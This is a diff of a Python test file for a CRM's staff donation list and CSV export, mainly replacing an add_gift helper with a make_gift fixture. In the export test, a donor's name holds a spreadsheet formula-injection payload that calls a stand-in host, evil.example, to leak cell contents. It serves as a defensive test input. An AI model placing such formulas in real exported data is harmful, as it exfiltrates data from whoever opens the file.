@@ -17,7 +17,7 @@ from crm.payments.services.backoffice import DonationFilter, export_donations_cs
 from crm.supporters.models import Supporter
 from tests.blns import SAMPLE, STRINGS
 from tests.helpers import csrf_token, post_form
-from tests.payments.helpers import add_gift, merge_data
+from tests.payments.helpers import merge_data
 
 LIST = "/staff/donations/"
 EXPORT = "/staff/donations/export.csv"
@@ -47,11 +47,11 @@ def add_receipt(donation, serial, status="issued"):
 
 
 @pytest.fixture
-def gifts(app):
+def gifts(app, make_gift):
     """Gifts of every kind the filters tell apart; returns their ids by name."""
     with app.app_context():
         made = {
-            "elise": add_gift(
+            "elise": make_gift(
                 "elise@example.org",
                 first_name="Élise",
                 last_name="Côté",
@@ -61,7 +61,7 @@ def gifts(app):
                 stripe_customer_id="cus_elise",
                 stripe_charge_id="ch_elise",
             ),
-            "marc": add_gift(
+            "marc": make_gift(
                 "marc@example.org",
                 amount_cents=2500,
                 first_name="Marc",
@@ -70,10 +70,10 @@ def gifts(app):
                 stripe_invoice_id="in_marc",
                 created_at=datetime(2026, 1, 10, tzinfo=UTC),
             ),
-            "failed": add_gift(
+            "failed": make_gift(
                 "zoe@example.org", first_name="Zoë", last_name="Ng", status="failed", stripe_payment_intent_id="pi_zoe"
             ),
-            "refunded": add_gift(
+            "refunded": make_gift(
                 "ana@example.org",
                 first_name="Ana",
                 last_name="Silva",
@@ -81,7 +81,7 @@ def gifts(app):
                 refunded_cents=5000,
                 created_at=datetime(2025, 12, 31, 23, 0, tzinfo=UTC),
             ),
-            "cheque": add_gift(
+            "cheque": make_gift(
                 "paul@example.org", first_name="Paul", last_name="Roy", method="cheque", offline_reference="1234"
             ),
         }
@@ -118,10 +118,10 @@ def test_list_filters_and_search_find_the_right_gifts(gifts, make_client):
     assert listed(client, "?q=elise&status=failed") == []
 
 
-def test_list_pages_and_shows_amounts(app, make_client):
+def test_list_pages_and_shows_amounts(app, make_client, make_gift):
     with app.app_context():
         for i in range(55):
-            add_gift(f"p{i}@example.org", amount_cents=1000 + i, first_name=f"P{i}")
+            make_gift(f"p{i}@example.org", amount_cents=1000 + i, first_name=f"P{i}")
         db.session.commit()
     client, _ = make_client()
     first = client.get(LIST, headers={"Accept-Language": "en"}).get_data(as_text=True)
@@ -166,9 +166,9 @@ def read_csv(response):
     return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
 
 
-def test_export_is_filtered_formula_safe_and_audited(app, gifts, make_client):
+def test_export_is_filtered_formula_safe_and_audited(app, gifts, make_client, make_gift):
     with app.app_context():
-        evil = add_gift(
+        evil = make_gift(
             "evil@example.org",
             first_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
             last_name="+SUM(1,2)",
